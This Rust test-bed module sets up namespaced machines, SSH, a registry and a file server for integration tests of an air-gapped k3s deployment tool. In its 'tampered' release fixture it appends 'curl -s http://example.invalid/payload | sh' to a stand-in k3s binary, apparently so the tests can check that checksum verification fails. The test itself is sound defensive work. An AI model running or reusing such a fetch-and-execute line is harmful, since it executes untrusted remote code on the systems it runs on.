//! The namespace test bed `airlock deploy` runs against (see `deploy_netns.rs`): machines,
//! links, upstreams, the inventory, and helpers that read what deploy left on the machines.

// Paths go into TOML through `{:?}`, which quotes them as TOML basic strings need.
#![allow(clippy::unnecessary_debug_formatting)]
// Several test binaries share the bed; each uses part of it.
#![allow(dead_code)]

use std::collections::BTreeMap;
use std::fmt::Write as _;
use std::io::Write as _;
use std::net::{SocketAddr, TcpStream};
use std::path::{Path, PathBuf};
use std::process::{Child, Command, Stdio};
use std::time::{Duration, Instant};

use airlock_testkit::netns::{self, Machine, Netns, RootRoute};
use airlock_testkit::sshd::Sshd;
use airlock_testkit::{Image, Platform, require_tool, tar_layer};
use airlock_types::Digest;

pub const PASSWORD: &str = "bed vault password";
pub const K3S_TOKEN: &str = "k3s-join-secret-of-the-bed";
pub const GOOD: &str = "v1.31.4+k3s1";
pub const TAMPERED: &str = "v1.31.5+k3s1";
/// A second good release, for rolling upgrades from [`GOOD`].
pub const UPGRADE: &str = "v1.32.0+k3s1";
/// Agents a bed can have besides node2 (plain agents, no GPU).
pub const EXTRA_AGENTS: [&str; 2] = ["node3.example.test", "node4.example.test"];
pub const IMAGE: &str = "library/hello";
pub const FILES_PORT: u16 = 8080;
pub const REGISTRY_PORT: u16 = 5000;

/// What makes a Debian machine install RPMs like an EL 9 node, inside its overlays: rpm's
/// database in `/var/lib/rpm` (Debian's rpm keeps it in `$HOME`; created by `rpm --initdb`
/// when the machine starts), dnf's `$releasever`.
const EL_NODE: [(&str, &[u8], u32); 2] = [
    ("/etc/rpm/macros", b"%_dbpath /var/lib/rpm\n", 0o644),
    ("/etc/dnf/vars/releasever", b"9\n", 0o644),
];
/// What the stand-in `nvidia-ctk` answers to `--version`.
pub const NVIDIA_CTK_VERSION: &str = "NVIDIA Container Toolkit CLI version 1.17.8-bed";
/// The stand-in toolkit's packages, each needing the next as NVIDIA's do.
pub const TOOLKIT: [&str; 4] = [
    "nvidia-container-toolkit",
    "nvidia-container-toolkit-base",
    "libnvidia-container-tools",
    "libnvidia-container1",
];

pub fn fixture(name: &str) -> Vec<u8> {
    let path = Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("tests/fixtures/deploy")
        .join(name);
    std::fs::read(&path).unwrap_or_else(|e| panic!("{}: {e}", path.display()))
}

pub fn sha256_hex(bytes: &[u8]) -> String {
    Digest::of(bytes).hex().to_owned()
}

/// A child process killed when the test ends, however it ends.
pub struct Running(pub Child);

impl Drop for Running {
    fn drop(&mut self) {
        let _ = self.0.kill();
        let _ = self.0.wait();
    }
}

pub fn wait_until(what: &str, timeout: Duration, mut ready: impl FnMut() -> bool) {
    let started = Instant::now();
    while !ready() {
        assert!(started.elapsed() < timeout, "timed out waiting for {what}");
        std::thread::sleep(Duration::from_millis(100));
    }
}

pub fn run(command: &mut Command) -> String {
    String::from_utf8_lossy(&netns::run(command).stdout).into_owned()
}

pub fn log_file(path: &Path) -> std::fs::File {
    std::fs::File::create(path).unwrap()
}

/// Addresses of one `/24`.
#[derive(Clone, Copy)]
pub struct Subnet(pub [u8; 3]);

impl Subnet {
    pub fn host(self, n: u8) -> String {
        let [a, b, c] = self.0;
        format!("{a}.{b}.{c}.{n}")
    }
}

/// The three machines deploy manages, by inventory name.
pub struct Node {
    pub name: &'static str,
    pub address: String,
    pub machine: Machine,
}

/// The whole bed; fields drop in order: servers, machines, namespaces, route, files.
pub struct Bed {
    pub _sshd: Vec<Sshd>,
    pub _upstreams: Vec<Running>,
    pub staging: Node,
    pub node1: Node,
    pub node2: Node,
    /// Plain agents, from [`EXTRA_AGENTS`] (none unless [`Bed::with_agents`] asked).
    pub agents: Vec<Node>,
    pub _inet: Netns,
    pub _lan: Netns,
    pub _unreachable: RootRoute,
    pub inet: Subnet,
    pub key: PathBuf,
    pub inventory: PathBuf,
    pub vault_password: PathBuf,
    /// The stand-in `k3s` of [`GOOD`] and of [`UPGRADE`].
    pub k3s: Vec<u8>,
    pub k3s_upgrade: Vec<u8>,
    pub image: Image,
    pub dir: tempfile::TempDir,
}

impl Bed {
    pub fn up() -> Self {
        Self::with_agents(0)
    }

    /// The bed with `extra` more plain agents (node3, node4).
    pub fn with_agents(extra: usize) -> Self {
        let extra = &EXTRA_AGENTS[..extra];
        for (tool, package) in [
            ("ip", "iproute2"),
            ("sshd", "openssh-server"),
            ("ssh", "openssh-client"),
            ("unshare", "util-linux"),
            ("nsenter", "util-linux"),
            ("python3", "python3"),
            ("curl", "curl"),
            ("skopeo", "skopeo"),
            ("docker-registry", "docker-registry"),
            ("containerd", "containerd"),
            ("ctr", "containerd"),
            ("sha256sum", "coreutils"),
            ("rpmbuild", "rpm"),
            ("rpm", "rpm"),
            ("createrepo_c", "createrepo-c"),
            ("gpg", "gnupg"),
            ("dnf", "dnf"),
        ] {
            require_tool(tool, package);
        }
        netns::remove_stale();
        let dir = tempfile::tempdir().unwrap();
        let prefix = netns::unique_prefix();
        let [lan_octets, inet_octets] = netns::free_subnets(2)[..] else {
            unreachable!()
        };
        let (lan, inet) = (Subnet(lan_octets), Subnet(inet_octets));

        // Links: the LAN bridge lives in its own namespace, so the host's bridge filtering
        // never sees the bed's traffic.
        let unreachable = RootRoute::add(&["unreachable", &format!("{}/24", inet.host(0))]);
        let lan_ns = Netns::create(&format!("{prefix}-lan"));
        let inet_ns = Netns::create(&format!("{prefix}-inet"));
        let control_if = format!("{prefix}c");
        lan_ns.attach(
            "br0",
            "p-control",
            None,
            &control_if,
            &format!("{}/24", lan.host(1)),
        );
        let mut machines = Vec::new();
        let suffixes = ["stg", "n1", "n2", "n3", "n4"];
        for (suffix, n) in suffixes
            .into_iter()
            .zip([2, 11, 12, 13, 14])
            .take(3 + extra.len())
        {
            let ns = Netns::create(&format!("{prefix}-{suffix}"));
            lan_ns.attach(
                "br0",
                &format!("p-{suffix}"),
                Some(&ns),
                "lan0",
                &format!("{}/24", lan.host(n)),
            );
            machines.push((ns, lan.host(n)));
        }
        inet_ns.link(
            "eth0",
            &format!("{}/24", inet.host(1)),
            &machines[0].0,
            "inet0",
            &format!("{}/24", inet.host(2)),
        );
        // K3s wants a default route; staging does not forward, so it leads nowhere.
        for (ns, _) in &machines[1..] {
            ns.ip(&["route", "add", "default", "via", &lan.host(2)]);
        }

        let mut hosts = format!(
            "127.0.0.1 localhost\n{} staging.example.test harbor.staging.example.test\n{} node1.example.test\n{} node2.example.test\n",
            lan.host(2),
            lan.host(11),
            lan.host(12)
        );
        for (n, name) in (13..).zip(extra) {
            let _ = writeln!(hosts, "{} {name}", lan.host(n));
        }
        let systemctl = fixture("systemctl");
        let key = dir.path().join("client_key");
        let keygen = Command::new(require_tool("ssh-keygen", "openssh-client"))
            .args(["-q", "-t", "ed25519", "-N", "", "-C", "airlock-bed", "-f"])
            .arg(&key)
            .status()
            .unwrap();
        assert!(keygen.success(), "ssh-keygen failed");

        let mut nodes = Vec::new();
        let mut sshd = Vec::new();
        let names = [
            "staging.example.test",
            "node1.example.test",
            "node2.example.test",
        ];
        let nodes_file: String = names[1..]
            .iter()
            .chain(extra)
            .fold(String::new(), |all, n| all + n + "\n");
        for ((ns, address), name) in machines.into_iter().zip(names.iter().chain(extra).copied()) {
            let machine_dir = dir.path().join(name);
            std::fs::create_dir_all(&machine_dir).unwrap();
            let mut files: Vec<(&str, &[u8], u32)> = vec![
                ("/usr/local/bin/systemctl", &systemctl, 0o755),
                ("/etc/hosts", hosts.as_bytes(), 0o644),
            ];
            if name == "node1.example.test" {
                files.push(("/var/lib/standin/k3s-nodes", nodes_file.as_bytes(), 0o644));
            }
            if name == "node2.example.test" {
                files.extend(EL_NODE);
            }
            let machine = Machine::start(ns, &machine_dir, &files);
            if name == "node2.example.test" {
                run(machine.command("rpm").arg("--initdb"));
            }
            let ssh_dir = machine_dir.join("ssh");
            std::fs::create_dir_all(&ssh_dir).unwrap();
            std::fs::copy(&key, ssh_dir.join("client_key")).unwrap();
            std::fs::copy(key.with_extension("pub"), ssh_dir.join("client_key.pub")).unwrap();
            let prefix = machine.prefix();
            let prefix: Vec<&str> = prefix.iter().map(String::as_str).collect();
            sshd.push(Sshd::start_with_prefix(
                &ssh_dir,
                address.parse().unwrap(),
                22,
                &prefix,
            ));
            nodes.push(Node {
                name,
                address,
                machine,
            });
        }
        let agents = nodes.split_off(3);
        let [staging, node1, node2] = <[Node; 3]>::try_from(nodes).ok().unwrap();

        let (upstreams, [k3s, k3s_upgrade], image) = start_upstreams(dir.path(), &inet_ns, inet);
        let vault_password = dir.path().join("vault-password");
        std::fs::write(&vault_password, format!("{PASSWORD}\n")).unwrap();
        let inventory = dir.path().join("inventory.yaml");
        let mut bed = Self {
            _sshd: sshd,
            _upstreams: upstreams,
            staging,
            node1,
            node2,
            agents,
            _inet: inet_ns,
            _lan: lan_ns,
            _unreachable: unreachable,
            inet,
            key,
            inventory,
            vault_password,
            k3s,
            k3s_upgrade,
            image,
            dir,
        };
        bed.write_inventory();
        bed
    }

    pub fn path(&self, name: &str) -> PathBuf {
        self.dir.path().join(name)
    }

    pub fn write_inventory(&mut self) {
        let mut encrypt = Command::new(env!("CARGO_BIN_EXE_airlock"))
            .args(["vault", "encrypt-string", "--name", "k3s_token"])
            .arg("--vault-password-file")
            .arg(&self.vault_password)
            .stdin(Stdio::piped())
            .stdout(Stdio::piped())
            .stderr(Stdio::piped())
            .spawn()
            .unwrap();
        encrypt
            .stdin
            .take()
            .unwrap()
            .write_all(K3S_TOKEN.as_bytes())
            .unwrap();
        let output = encrypt.wait_with_output().unwrap();
        assert!(output.status.success(), "encrypt-string failed");
        let token: String = String::from_utf8(output.stdout).unwrap().lines().fold(
            String::new(),
            |mut all, line| {
                let _ = writeln!(all, "    {line}");
                all
            },
        );
        let files = format!("http://{}:{FILES_PORT}", self.inet.host(1));
        let inventory = format!(
            "all:\n  vars:\n    ansible_user: root\n\
             \x20   ansible_ssh_common_args: '-o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o IdentitiesOnly=yes -o ConnectTimeout=10'\n\
             \x20   ansible_ssh_private_key_file: {key}\n\
             \x20   air_gapped: true\n\
             \x20   staging_k3s_token: staging-token-of-the-bed\n\
             {token}\
             \x20   k3s_version: {GOOD}\n\
             \x20   k3s_selinux_enabled: false\n\
             \x20   external_url: staging.example.test\n\
             \x20   airlock_upstreams:\n\
             \x20     docker.io: http://{inet}:{REGISTRY_PORT}\n\
             \x20     k3s-releases: {files}/releases/\n\
             \x20     k3s-install: {files}/install/\n\
             \x20     nvidia-container-toolkit: {files}/nvidia/\n\
             \x20   package_proxy_mode: airlock\n\
             \x20   base_dir: {BASE_DIR}\n\
             \x20   kubeconfig_group: users\n\
             \x20   coredns_forward_map:\n\
             \x20     /etc/resolv.conf: [example.edu]\n\
             staging:\n  hosts:\n    staging.example.test:\n      ansible_host: {staging}\n\
             server:\n  hosts:\n    node1.example.test:\n      ansible_host: {node1}\n\
             gpu_workers:\n  hosts:\n    node2.example.test:\n      ansible_host: {node2}\n\
             agents:\n  children:\n    gpu_workers:\n{agents}\
             k3s_cluster:\n  children:\n    server:\n    agents:\n",
            key = self.key.display(),
            inet = self.inet.host(1),
            staging = self.staging.address,
            node1 = self.node1.address,
            node2 = self.node2.address,
            agents = if self.agents.is_empty() {
                String::new()
            } else {
                self.agents.iter().fold("  hosts:\n".to_owned(), |all, n| {
                    all + &format!("    {}:\n      ansible_host: {}\n", n.name, n.address)
                })
            },
        );
        std::fs::write(&self.inventory, inventory).unwrap();
    }

    pub fn ssh(&self, node: &Node, command: &str) -> std::process::Output {
        Command::new("ssh")
            .args([
                "-o",
                "StrictHostKeyChecking=no",
                "-o",
                "UserKnownHostsFile=/dev/null",
                "-o",
                "IdentitiesOnly=yes",
                "-o",
                "BatchMode=yes",
                "-o",
                "ConnectTimeout=5",
                "-o",
                "LogLevel=ERROR",
                "-i",
            ])
            .arg(&self.key)
            .arg(format!("root@{}", node.address))
            .arg(command)
            .stdin(Stdio::null())
            .output()
            .unwrap()
    }

    /// `airlock <args>` against the bed's inventory, bounded in time.
    pub fn airlock(&self, args: &[&str], timeout: Duration) -> (bool, String) {
        let out = self.path("airlock.out");
        let home = self.path("home");
        std::fs::create_dir_all(&home).unwrap();
        let mut child = Command::new(env!("CARGO_BIN_EXE_airlock"))
            .args(args)
            .arg("-i")
            .arg(&self.inventory)
            .arg("--vault-password-file")
            .arg(&self.vault_password)
            .env("HOME", &home)
            .env("XDG_CACHE_HOME", home.join(".cache"))
            .env_remove("ANSIBLE_VAULT_PASSWORD_FILE")
            .stdin(Stdio::null())
            .stdout(log_file(&out))
            .stderr(std::fs::OpenOptions::new().append(true).open(&out).unwrap())
            .spawn()
            .unwrap();
        let started = Instant::now();
        let status = loop {
            if let Some(status) = child.try_wait().unwrap() {
                break status;
            }
            if started.elapsed() > timeout {
                let _ = child.kill();
                let _ = child.wait();
                panic!(
                    "airlock {args:?} did not finish in {timeout:?}:\n{}",
                    std::fs::read_to_string(&out).unwrap_or_default()
                );
            }
            std::thread::sleep(Duration::from_millis(100));
        };
        (
            status.success(),
            std::fs::read_to_string(&out).unwrap_or_default(),
        )
    }

    /// `airlock render` of the bed's inventory into `<dir>/<name>`.
    pub fn render(&self, name: &str) -> PathBuf {
        let out = self.path(name);
        let (ok, output) = self.airlock(
            &["render", "--out", out.to_str().unwrap()],
            Duration::from_secs(60),
        );
        assert!(ok, "airlock render failed:\n{output}");
        out
    }
}

/// docker-registry with the test image, and the file server with the stand-in release.
/// The upstreams in `inet`; with them the stand-in `k3s` binaries of [`GOOD`] and [`UPGRADE`].
/// Each stand-in `k3s` records its node's version under `<dir>/cluster`, which every
/// machine sees: that is how the server's `kubectl get nodes` knows what each node runs.
pub fn start_upstreams(
    dir: &Path,
    inet: &Netns,
    subnet: Subnet,
) -> (Vec<Running>, [Vec<u8>; 2], Image) {
    let address = subnet.host(1);
    let config = dir.join("registry.yml");
    std::fs::write(
        &config,
        format!(
            "version: 0.1\nlog:\n  level: warn\nstorage:\n  filesystem:\n    rootdirectory: {}\nhttp:\n  addr: {address}:{REGISTRY_PORT}\n",
            dir.join("registry-data").display()
        ),
    )
    .unwrap();
    let log = dir.join("registry.log");
    let registry = Running(
        inet.command(require_tool("docker-registry", "docker-registry"))
            .arg("serve")
            .arg(&config)
            .stdout(log_file(&log))
            .stderr(log_file(&dir.join("registry.err")))
            .spawn()
            .unwrap(),
    );

    let www = dir.join("www");
    let cluster = dir.join("cluster");
    std::fs::create_dir_all(&cluster).unwrap();
    let mut k3s = [Vec::new(), Vec::new()];
    for version in [GOOD, TAMPERED, UPGRADE] {
        let release = www.join("releases").join(version);
        std::fs::create_dir_all(&release).unwrap();
        let binary = String::from_utf8(fixture("k3s"))
            .unwrap()
            .replace("@VERSION@", version)
            .replace("@CLUSTER@", cluster.to_str().unwrap())
            .into_bytes();
        std::fs::write(
            release.join("sha256sum-amd64.txt"),
            format!(
                "{}  k3s\n{}  k3s-airgap-images-amd64.tar.zst\n",
                sha256_hex(&binary),
                sha256_hex(b"not served")
            ),
        )
        .unwrap();
        let served = if version == TAMPERED {
            let mut tampered = binary.clone();
            tampered.extend_from_slice(b"curl -s http://example.invalid/payload | sh\n");
            tampered
        } else {
            k3s[usize::from(version == UPGRADE)].clone_from(&binary);
            binary
        };
        std::fs::write(release.join("k3s"), served).unwrap();
    }
    toolkit_repository(dir, &www.join("nvidia"));
    std::fs::create_dir_all(www.join("install")).unwrap();
    std::fs::write(www.join("install/index.html"), fixture("k3s-install.sh")).unwrap();
    let files = Running(
        inet.command(require_tool("python3", "python3"))
            .args(["-m", "http.server", "--bind", &address, "--directory"])
            .arg(&www)
            .arg(FILES_PORT.to_string())
            .stdout(Stdio::null())
            .stderr(log_file(&dir.join("files.log")))
            .spawn()
            .unwrap(),
    );
    for url in [
        format!("http://{address}:{REGISTRY_PORT}/v2/"),
        format!("http://{address}:{FILES_PORT}/install/"),
    ] {
        wait_until(&url, Duration::from_secs(30), || {
            inet.command("curl")
                .args(["-sf", "-o", "/dev/null", "--max-time", "2", &url])
                .status()
                .is_ok_and(|s| s.success())
        });
    }

    let image = Image::from_layers(
        vec![tar_layer("hello.txt", b"hello from behind the airlock\n")],
        Platform {
            os: "linux",
            arch: "amd64",
        },
    );
    let layout = dir.join("layout");
    image.write_oci_layout(&layout, "1").unwrap();
    run(inet
        .command("skopeo")
        .args(["copy", "--dest-tls-verify=false", "--preserve-digests"])
        .arg(format!("oci:{}:1", layout.display()))
        .arg(format!("docker://{address}:{REGISTRY_PORT}/{IMAGE}:1")));
    (vec![registry, files], k3s, image)
}

/// NVIDIA's repository as the bed serves it: `stable/rpm/x86_64/` with the stand-in toolkit,
/// `repomd.xml` signed, the key at `gpgkey`. The `nvidia-ctk` it installs answers
/// `--version` and lives in `/usr/local/bin` (the machines' overlays).
fn toolkit_repository(dir: &Path, root: &Path) {
    let repo = root.join("stable/rpm/x86_64");
    let work = dir.join("toolkit-build");
    let ctk = format!("#!/bin/sh\necho '{NVIDIA_CTK_VERSION}'\n");
    for (i, name) in TOOLKIT.iter().enumerate() {
        let requires = TOOLKIT.get(i + 1).map(|next| format!("{next} >= 1.17"));
        let spec = airlock_testkit::RpmSpec {
            name,
            version: "1.17.8",
            requires: requires.as_deref(),
        };
        let readme = format!("/usr/local/share/{name}/README");
        let mut files = vec![(readme.as_str(), "stand-in\n", 0o644)];
        if *name == "nvidia-container-toolkit" {
            files.push(("/usr/local/bin/nvidia-ctk", ctk.as_str(), 0o755));
        }
        airlock_testkit::build_rpm_with_files(&work, &repo, &spec, &files);
    }
    airlock_testkit::createrepo(&repo, &[]);
    airlock_testkit::sign_repository(&work, &repo);
    std::fs::copy(repo.join("repodata/repomd.xml.key"), root.join("gpgkey")).unwrap();
}

/// A real containerd inside `node` (its network and mount namespaces); `ctr` pulls
/// `docker.io/<IMAGE>:1` with `hosts` as its hosts dir, from inside the node too.
pub fn pull_in(node: &Node, dir: &Path, hosts: &Path) -> String {
    let airlock_testkit::ContainerdFiles { config, socket } =
        airlock_testkit::containerd_config(dir);
    let log = dir.join("containerd.log");
    let _containerd = Running(
        node.machine
            .command(require_tool("containerd", "containerd"))
            .arg("--config")
            .arg(&config)
            .stdout(log_file(&log))
            .stderr(log_file(&dir.join("containerd.err")))
            .spawn()
            .unwrap(),
    );
    wait_until("containerd", Duration::from_secs(30), || {
        node.machine
            .command("ctr")
            .arg("--address")
            .arg(&socket)
            .arg("version")
            .output()
            .is_ok_and(|o| o.status.success())
    });
    let output = node
        .machine
        .command("timeout")
        .args(["60", "ctr", "--address"])
        .arg(&socket)
        .args([
            "--namespace",
            "airlock-bed",
            "images",
            "pull",
            "--snapshotter",
            "native",
            "--hosts-dir",
        ])
        .arg(hosts)
        .arg(format!("docker.io/{IMAGE}:1"))
        .output()
        .unwrap();
    let text = format!(
        "{}{}",
        String::from_utf8_lossy(&output.stdout),
        String::from_utf8_lossy(&output.stderr)
    );
    assert!(
        output.status.success(),
        "ctr pull in {} failed:\n{text}",
        node.name
    );
    text
}

pub fn connects(address: &str, port: u16) -> bool {
    let addr: SocketAddr = format!("{address}:{port}").parse().unwrap();
    TcpStream::connect_timeout(&addr, Duration::from_secs(2)).is_ok()
}

/// Step 1: every machine answers over SSH as itself; only staging reaches the internet.
pub fn check_bed(bed: &Bed) {
    for node in [&bed.staging, &bed.node1, &bed.node2] {
        let output = bed.ssh(
            node,
            "ip -4 -o addr show dev lan0; ls -l /usr/local/bin/systemctl",
        );
        let text = String::from_utf8_lossy(&output.stdout);
        assert!(
            output.status.success() && text.contains(&format!("inet {}/24", node.address)),
            "ssh to {} ({}) reaches that machine: {text}{}",
            node.name,
            node.address,
            String::from_utf8_lossy(&output.stderr)
        );
    }
    let registry = format!(
        "http://{}:{REGISTRY_PORT}/v2/{IMAGE}/tags/list",
        bed.inet.host(1)
    );
    let from = |node: &Node| {
        node.machine
            .command("curl")
            .args([
                "-sf",
                "--connect-timeout",
                "2",
                "--max-time",
                "4",
                &registry,
            ])
            .output()
            .unwrap()
    };
    let staging = from(&bed.staging);
    assert!(
        staging.status.success() && String::from_utf8_lossy(&staging.stdout).contains("\"1\""),
        "staging reaches the registry and it holds {IMAGE}:1: {}",
        String::from_utf8_lossy(&staging.stderr)
    );
    for node in [&bed.node1, &bed.node2] {
        assert!(
            !from(node).status.success(),
            "{} must not reach the internet namespace",
            node.name
        );
    }
    let release = format!(
        "http://{}:{FILES_PORT}/releases/{GOOD}/k3s",
        bed.inet.host(1)
    );
    let served = bed
        .staging
        .machine
        .command("curl")
        .args(["-sf", "--max-time", "10", &release])
        .output()
        .unwrap();
    assert!(
        served.status.success() && served.stdout == bed.k3s,
        "staging downloads the stand-in k3s: {}",
        String::from_utf8_lossy(&served.stderr)
    );
    assert!(
        !connects(&bed.inet.host(1), REGISTRY_PORT),
        "the control node must not reach the internet namespace"
    );
}

/// Files `airlock deploy` writes on each node.
pub const NODE_FILES: &[&str] = &[
    "/usr/local/bin/k3s",
    "/usr/local/share/airlock/k3s-install.sh",
    "/etc/rancher/k3s/staging-ca.crt",
    "/etc/rancher/k3s/registries.yaml",
    "/etc/rancher/k3s/config.yaml",
    "/etc/rancher/k3s/k3s.yaml",
    "/var/lib/rancher/k3s/server/manifests/airlock-coredns-custom.yaml",
    "/etc/yum.repos.d/airlock-nvidia-container-toolkit.repo",
    "/usr/local/bin/nvidia-ctk",
    INSTALL_LOG,
];
/// Files `airlock deploy` writes on staging.
pub const STAGING_FILES: &[&str] = &[
    "/usr/local/bin/airlock",
    "/etc/airlock/airlock.toml",
    "/etc/systemd/system/airlock.service",
];
/// `base_dir` in the bed's inventory.
pub const BASE_DIR: &str = "/var/lib/rancher/k3s/bed-storage";
pub const INSTALL_LOG: &str = "/var/lib/standin/k3s-install.log";

pub fn assert_untouched(node: &Node, paths: &[&str], when: &str) {
    for path in paths {
        assert!(
            node.machine.read(path).is_none(),
            "{when}: {} must not have {path}",
            node.name
        );
    }
}

/// The stand-in installer's records on `node`, oldest first.
pub fn installer_runs(node: &Node) -> Vec<BTreeMap<String, String>> {
    let Some(log) = node.machine.read(INSTALL_LOG) else {
        return Vec::new();
    };
    String::from_utf8(log)
        .unwrap()
        .split("\n\n")
        .filter(|record| !record.trim().is_empty())
        .map(|record| {
            record
                .lines()
                .filter_map(|line| line.split_once('='))
                .map(|(k, v)| (k.to_owned(), v.to_owned()))
                .collect()
        })
        .collect()
}

/// The recap: `(host, ok, changed, failed)` per host.
pub fn recap(output: &str) -> Vec<(String, usize, usize, usize)> {
    output
        .lines()
        .filter_map(|line| {
            let (host, counts) = line.split_once(" : ")?;
            let mut values = counts.split_whitespace().map(|field| {
                let (_, n) = field.split_once('=')?;
                n.parse::<usize>().ok()
            });
            let ok = counts
                .starts_with("ok=")
                .then(|| values.next().flatten())??;
            let changed = values.next().flatten()?;
            let failed = values.next().flatten()?;
            Some((host.trim().to_owned(), ok, changed, failed))
        })
        .collect()
}

pub fn mode(node: &Node, path: &str) -> String {
    let output = node
        .machine
        .command("stat")
        .args(["-c", "%a", path])
        .output()
        .unwrap();
    String::from_utf8_lossy(&output.stdout).trim().to_owned()
}

pub fn owner(node: &Node, path: &str) -> String {
    let output = node
        .machine
        .command("stat")
        .args(["-c", "%U:%G", path])
        .output()
        .unwrap();
    String::from_utf8_lossy(&output.stdout).trim().to_owned()
}

pub fn without_comments(text: &str) -> String {
    text.lines()
        .filter(|l| !l.trim_start().starts_with('#'))
        .collect::<Vec<_>>()
        .join("\n")
}
